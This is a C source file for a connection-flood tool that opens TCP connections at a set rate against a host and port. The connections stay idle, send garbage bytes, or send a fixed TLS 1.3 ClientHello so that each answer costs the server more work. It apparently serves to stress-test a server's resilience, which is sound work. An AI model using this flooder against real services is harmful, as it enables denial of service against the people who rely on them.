/* Connections without end, from somebody who has no certificate: an attack on a listening party.
 *
 *   flood HOST:PORT KIND RATE SECONDS FROM...
 *
 * Begins RATE connections a second in all, in turn from each local IPv4 address FROM, for SECONDS, and keeps
 * as many open as its share of descriptors allows; then hangs up on the oldest. KIND is what a connection
 * says: idle      nothing garbage   300 bytes that are no TLS hello     a whole ClientHello, always the same,
 * so that an answer costs the party more than the question Prints a line when it begins and one when it ends.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <openssl/ssl.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { most_open = 800, most_from = 16, most_bytes = 4096 };

typedef struct flood {
  struct sockaddr_in to, from[most_from];
  size_t from_count;
  uint8_t bytes[most_bytes];
  size_t size;
  int open[most_open]; /* a ring; -1: free */
  bool spoke[most_open];
  size_t begun, failed, said;
} flood;

static double seconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (double)now.tv_sec + 1e-9 * (double)now.tv_nsec;
}

/* What OpenSSL says first, as a client of TLS 1.3. */
static size_t client_hello(uint8_t *out, size_t room) {
  SSL_CTX *context = SSL_CTX_new(TLS_client_method());
  SSL *ssl = SSL_new(context);
  BIO *in = BIO_new(BIO_s_mem()), *written = BIO_new(BIO_s_mem());
  SSL_set_min_proto_version(ssl, TLS1_3_VERSION);
  SSL_set_bio(ssl, in, written);
  (void)SSL_connect(ssl);
  int size = BIO_read(written, out, (int)room);
  SSL_free(ssl);
  SSL_CTX_free(context);
  return size > 0 ? (size_t)size : 0;
}

static bool address_of(struct sockaddr_in *out, const char *host, int port) {
  *out = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
  return inet_pton(AF_INET, host, &out->sin_addr) == 1;
}

static bool settle(flood *f, int argc, char **argv) {
  char host[64];
  const char *colon = argc < 6 ? NULL : strrchr(argv[1], ':');
  if (colon == NULL || argc - 5 > most_from) return false;
  (void)snprintf(host, sizeof host, "%.*s", (int)(colon - argv[1]), argv[1]);
  if (!address_of(&f->to, host, atoi(colon + 1))) return false;
  for (int i = 5; i < argc; i++)
    if (!address_of(&f->from[f->from_count++], argv[i], 0)) return false;
  if (strcmp(argv[2], "garbage") == 0) {
    f->size = 300;
    memset(f->bytes, 'x', f->size);
  } else if (strcmp(argv[2], "hello") == 0) {
    f->size = client_hello(f->bytes, sizeof f->bytes);
  }
  for (size_t i = 0; i < most_open; i++) f->open[i] = -1;
  return f->size > 0 || strcmp(argv[2], "idle") == 0;
}

/* Hangs up at once, so that no port waits for late packets. */
static void hang_up(int fd) {
  const struct linger now = {.l_onoff = 1, .l_linger = 0};
  (void)setsockopt(fd, SOL_SOCKET, SO_LINGER, &now, sizeof now);
  (void)close(fd);
}

static void speak(flood *f, size_t place) {
  if (f->spoke[place] || f->size == 0 || f->open[place] < 0) return;
  ssize_t sent = send(f->open[place], f->bytes, f->size, MSG_NOSIGNAL | MSG_DONTWAIT);
  if (sent < 0 && (errno == EAGAIN || errno == ENOTCONN)) return; /* not connected yet */
  f->spoke[place] = true;
  f->said += sent > 0;
}

static void begin(flood *f) {
  size_t place = f->begun % most_open;
  const struct sockaddr_in *from = &f->from[f->begun % f->from_count];
  if (f->open[place] >= 0) hang_up(f->open[place]);
  f->spoke[place] = false;
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
  bool good = fd >= 0 && bind(fd, (const struct sockaddr *)from, sizeof *from) == 0 &&
              (connect(fd, (const struct sockaddr *)&f->to, sizeof f->to) == 0 || errno == EINPROGRESS);
  if (!good && fd >= 0) (void)close(fd);
  f->open[place] = good ? fd : -1;
  f->failed += !good;
  f->begun++;
  speak(f, place);
  for (size_t back = 8; back < most_open; back *= 3) speak(f, (place + most_open - back) % most_open);
}

int main(int argc, char **argv) {
  static flood f;
  struct rlimit files = {most_open + 64, most_open + 64};
  if (!settle(&f, argc, argv)) {
    (void)fputs("usage: flood HOST:PORT idle|garbage|hello RATE SECONDS FROM...\n", stderr);
    return 2;
  }
  (void)setrlimit(RLIMIT_NOFILE, &files);
  double rate = atof(argv[3]), length = atof(argv[4]), start = seconds(), now = start;
  (void)printf("flooding\n");
  (void)fflush(stdout);
  while (now - start < length) {
    while ((double)f.begun < (now - start) * rate) begin(&f);
    const struct timespec pause = {0, 500000};
    nanosleep(&pause, NULL);
    now = seconds();
  }
  for (size_t i = 0; i < most_open; i++)
    if (f.open[i] >= 0) hang_up(f.open[i]);
  (void)printf("%zu connections in %.1f s, %.0f a second; %zu spoke, %zu could not begin\n", f.begun,
               now - start, (double)f.begun / (now - start), f.said, f.failed);
  return 0;
}
